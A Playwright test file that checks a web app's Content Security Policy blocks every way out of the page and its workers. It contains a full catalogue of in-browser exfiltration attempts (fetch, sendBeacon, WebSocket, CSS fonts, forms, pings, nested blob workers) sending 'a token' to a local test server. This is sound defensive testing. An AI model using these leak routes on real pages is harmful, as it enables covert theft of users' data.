/** Is every way out of the page shut, and out of a worker that the page starts? */
// oxlint-disable consistent-function-scoping -- what runs in the browser takes nothing along
import { createServer, type Server } from 'node:http'
import { expect, type Page, test } from '@playwright/test'

/** A server of another origin that counts whoever knocks. */
interface Stranger {
  origin: string
  hits: string[]
  close: () => void
}

async function startStranger(): Promise<Stranger> {
  const hits: string[] = []
  const server: Server = createServer((request, response) => {
    const path = request.url ?? ''
    if (path.startsWith('/hit/')) hits.push(path.slice('/hit/'.length))
    response.setHeader('Content-Type', path.endsWith('script') ? 'text/javascript' : 'text/html')
    response.end('<title>A page without a policy</title>')
  })
  server.on('upgrade', ({ url = '' }, socket) => {
    hits.push(url.slice('/hit/'.length))
    socket.destroy()
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  const address = server.address()
  const port = typeof address === 'object' ? address?.port : undefined
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}

/** Tries every way out of a page. Runs in the browser. */
function leakFromPage(origin: string): void {
  const at = (way: string): string => `${origin}/hit/${way}`
  const attempt = (act: () => unknown): void => {
    try {
      void Promise.resolve(act()).catch(() => undefined)
    } catch {
      // refused at once
    }
  }
  const add = (tag: string, attributes: Record<string, string>, text = ''): HTMLElement => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    element.textContent = text
    document.body.append(element)
    return element
  }
  const ways: (() => unknown)[] = [
    () => fetch(at('fetch'), { mode: 'no-cors', method: 'POST', body: 'a token' }),
    () => fetch(at('fetch-kept-alive'), { mode: 'no-cors', keepalive: true }),
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', at('xhr'))
      request.send()
    },
    () => new WebSocket(at('websocket').replace('http', 'ws')),
    () => new EventSource(at('event-source')),
    () => navigator.sendBeacon(at('beacon'), 'a token'),
    () => (new Image().src = at('image')),
    () => add('script', { src: at('script') }),
    () => add('script', { type: 'module', src: at('module-script') }),
    () => add('link', { rel: 'stylesheet', href: at('stylesheet') }),
    () => add('link', { rel: 'prefetch', href: at('prefetch') }),
    () => add('link', { rel: 'preload', as: 'image', href: at('preload') }),
    () => add('link', { rel: 'manifest', href: at('manifest') }),
    () => add('iframe', { src: at('iframe') }),
    () => add('object', { data: at('object'), type: 'text/html' }),
    () => add('embed', { src: at('embed'), type: 'text/html' }),
    () => add('video', { src: at('video'), preload: 'auto' }),
    () => add('div', { style: `background: url(${at('css-image')})` }, 'x'),
    () =>
      add(
        'style',
        {},
        `@font-face { font-family: leak; src: url(${at('font')}) } i { font-family: leak }`,
      ),
    () => add('i', {}, 'x'),
    () => {
      add('iframe', { name: 'nowhere' })
      const form = document.createElement('form')
      Object.assign(form, { action: at('form'), target: 'nowhere', method: 'post' })
      document.body.append(form)
      form.submit()
    },
    () => add('a', { href: '#x', ping: at('ping') }).click(),
  ]
  for (const way of ways) attempt(way)
}

const PAGE_WAYS =
  'beacon css-image embed event-source fetch fetch-kept-alive font form iframe image import module-script object ping prefetch preload script stylesheet video websocket xhr'.split(
    ' ',
  )

/** Of a frame the browser reports the origin alone. */
const FRAMES = new Set(['embed', 'iframe', 'object'])

/** Starts a worker from a blob, which tries every way out, one of them a worker of its own. Runs in the browser. */
async function leakFromWorker(origin: string): Promise<string> {
  const text = `
    const at = (way) => '${origin}/hit/worker-' + way
    const attempt = (act) => { try { Promise.resolve(act()).catch(() => {}) } catch {} }
    attempt(() => fetch(at('fetch'), { mode: 'no-cors', method: 'POST', body: 'a token' }))
    attempt(() => { const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send() })
    attempt(() => new WebSocket(at('websocket').replace('http', 'ws')))
    attempt(() => new EventSource(at('event-source')))
    attempt(() => importScripts(at('import-scripts')))
    attempt(() => import(at('import')))
    const inner = "try { importScripts('" + at('sub-worker') + "') } catch {} fetch('" + at('sub-worker-fetch') + "', { mode: 'no-cors' }).catch(() => {}).finally(() => postMessage('tried'))"
    attempt(() => {
      const worker = new Worker(URL.createObjectURL(new Blob([inner], { type: 'text/javascript' })))
      worker.onmessage = () => postMessage('tried')
      worker.onerror = () => postMessage('no worker inside a worker')
    })`
  const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
  return new Promise((resolve) => {
    const worker = new Worker(url)
    worker.addEventListener('message', ({ data }) => resolve(String(data)))
    worker.addEventListener('error', ({ message }) => resolve(`the worker stopped: ${message}`))
  })
}

const WORKER_WAYS = [
  'worker-event-source',
  'worker-fetch',
  'worker-import',
  'worker-import-scripts',
  'worker-sub-worker',
  'worker-sub-worker-fetch',
  'worker-websocket',
  'worker-xhr',
]

/** All ways at once, then long enough for any of them to arrive. */
async function leakEverywhere(page: Page, { origin }: Stranger): Promise<string> {
  await page.evaluate(leakFromPage, origin)
  // as text, so that nothing rewrites the import on its way to the browser
  await page.evaluate(`void import('${origin}/hit/import').catch(() => undefined)`)
  const said = await page.evaluate(leakFromWorker, origin)
  await page.waitForTimeout(1500)
  return said
}

let stranger: Stranger
let bare: Stranger
test.beforeEach(async () => {
  stranger = await startStranger()
  bare = await startStranger()
})
test.afterEach(() => {
  stranger.close()
  bare.close()
})

test('each way out is open where there is no policy, so that trying it proves something', async ({
  page,
}) => {
  await page.goto(`${bare.origin}/`)
  await leakEverywhere(page, stranger)
  expect([...new Set(stranger.hits)].toSorted()).toEqual([...PAGE_WAYS, ...WORKER_WAYS].toSorted())
})

test('from this page and from its workers none of them reaches anybody', async ({ page }) => {
  await page.addInitScript(() => {
    const refused: string[] = []
    addEventListener('securitypolicyviolation', ({ blockedURI }) => refused.push(blockedURI))
    Object.assign(window, { refused })
  })
  await page.goto('/')
  await page.waitForLoadState('networkidle')
  expect(await leakEverywhere(page, stranger)).toBe('tried')
  expect(stranger.hits).toEqual([])
  const refused = await page.evaluate<string[]>('refused')
  const unseen = PAGE_WAYS.filter(
    (way) => !FRAMES.has(way) && !refused.some((uri) => uri.endsWith(`/hit/${way}`)),
  )
  expect(unseen).toEqual([])
})

test('the policy of the page alone, without the server’s header, shuts them as well', async ({
  page,
}) => {
  await page.route('/', async (route) => {
    const response = await route.fetch()
    const { 'content-security-policy': _, ...headers } = response.headers()
    await route.fulfill({ response, headers })
  })
  const response = await page.goto('/')
  expect(response?.headers()['content-security-policy']).toBeUndefined()
  expect(await leakEverywhere(page, stranger)).toBe('tried')
  expect(stranger.hits).toEqual([])
})

test('whoever asks the Privacy page to leak sees each way refused, and nothing counted', async ({
  page,
}) => {
  const asked: string[] = []
  page.on('requestfinished', (request) => asked.push(new URL(request.url()).origin))
  await page.goto('/#/privacy')
  await expect(page.getByRole('main')).toContainText('it works with the network cut')
  await page.getByRole('button', { name: 'Try to make it leak' }).click()
  const attempts = page.getByRole('list', { name: 'Attempts' }).getByRole('listitem')
  await expect(attempts).toHaveText([
    'fetchrefused by connect-src',
    'XMLHttpRequestrefused by connect-src',
    'WebSocketrefused by connect-src',
    'EventSourcerefused by connect-src',
    'sendBeaconrefused by connect-src',
    'an imagerefused by img-src',
    'a scriptrefused by script-src-elem',
    'a formrefused by form-action',
    'fetch in a workerrefused by connect-src',
  ])
  await expect(page.getByRole('main').getByRole('status')).toHaveText('The browser refused all 9.')
  await expect(page.getByRole('banner')).toContainText('0 requests')
  expect(new Set(asked)).toEqual(new Set([new URL(page.url()).origin]))
})

test('a worker from an address is refused, even one of the page’s own files', async ({ page }) => {
  await page.goto('/')
  const outcome = await page.evaluate(async () => {
    const refused = new Promise<string>((resolve) => {
      addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
        resolve(violatedDirective),
      )
    })
    try {
      const worker = new Worker(new URL('boot.js', document.baseURI))
      worker.addEventListener('message', () => undefined)
    } catch {
      // some browsers refuse at once
    }
    return refused
  })
  expect(outcome).toBe('worker-src')
})
